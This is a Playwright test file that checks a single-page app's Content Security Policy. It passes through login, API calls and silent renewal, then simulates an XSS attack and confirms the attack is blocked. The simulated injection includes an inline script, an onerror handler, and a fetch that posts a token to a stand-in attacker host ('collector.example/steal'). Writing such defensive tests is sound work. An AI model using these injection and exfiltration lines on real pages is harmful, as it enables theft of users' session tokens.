import type { Page } from "@playwright/test";
import { expect, test } from "../fixtures";
import { countLogLines, firstLogin, openPage, resetIssuer } from "../helpers";
import { SPA } from "../origins";

// The SPA holds tokens in its memory, so a script injected into its pages
// could take them. Its pages allow only their own scripts (a nonce per
// response, and this origin's files): the app must work entirely under that
// policy, and a script that slipped into the page must not run.

test.beforeEach(async ({ request }) => {
  await resetIssuer(request);
});

/**
 * Collects every CSP violation of every document and frame the page loads
 * (the app's pages, the hidden renewal iframes) in the test itself.
 */
async function recordViolations(page: Page): Promise<string[]> {
  const seen: string[] = [];
  await page.exposeBinding("__reportCspViolation", ({ frame }, violation: string) => {
    seen.push(`${violation} (in ${frame.url()})`);
  });
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      const report = (window as unknown as { __reportCspViolation: (v: string) => void }).__reportCspViolation;
      report(`${event.effectiveDirective} ${event.blockedURI}`);
    });
  });
  return seen;
}

test("the app runs under its script policy, and a script injected into the page does not run @smoke", async ({ page }) => {
  const violations = await recordViolations(page);
  await firstLogin(page);
  expect(violations).toEqual([]);

  // An API call and a silent renewal (a hidden iframe, WebCrypto) too.
  await openPage(page, "API");
  await page.getByRole("button", { name: "GET /api/private", exact: true }).click();
  await expect(page.getByTestId("api-status")).toHaveText("200");
  await openPage(page, "Session");
  await page.getByRole("button", { name: "Renew now" }).click();
  await expect.poll(() => countLogLines(page, "Silent authentication succeeded")).toBe(1);
  expect(violations).toEqual([]);

  // As an XSS would: an inline script, an inline handler, an inline style,
  // and a fetch that would carry a token to another origin.
  const ran = await page.evaluate(async () => {
    const flags = window as unknown as { __injected?: boolean; __handler?: boolean };
    const script = document.createElement("script");
    script.textContent = "window.__injected = true;";
    document.body.append(script);
    const image = document.createElement("img");
    image.setAttribute("onerror", "window.__handler = true;");
    image.src = "data:,not-an-image";
    document.body.append(image);
    const styled = document.createElement("p");
    styled.setAttribute("style", "color: rgb(255, 0, 0)");
    document.body.append(styled);
    const sent = await fetch("https://collector.example/steal", { method: "POST", body: "token" }).then(
      () => true,
      () => false,
    );
    await new Promise((resolve) => setTimeout(resolve, 500));
    return {
      script: flags.__injected === true,
      handler: flags.__handler === true,
      style: getComputedStyle(styled).color === "rgb(255, 0, 0)",
      sent,
    };
  });
  expect(ran).toEqual({ script: false, handler: false, style: false, sent: false });
  const refused = ["connect-src https://collector.example/steal", "script-src-attr inline", "script-src-elem inline", "style-src-attr inline"];
  const seen = () => violations.map((v) => v.split(" ").slice(0, 2).join(" ")).sort();
  await expect.poll(seen).toEqual(refused);

  // The logout form posts to the provider (form-action) and comes back.
  await page.getByRole("button", { name: "Log out" }).click();
  await page.waitForURL(`${SPA}/`);
  await expect(page.getByTestId("signed-out")).toBeVisible();
  expect(seen()).toEqual(refused);
});
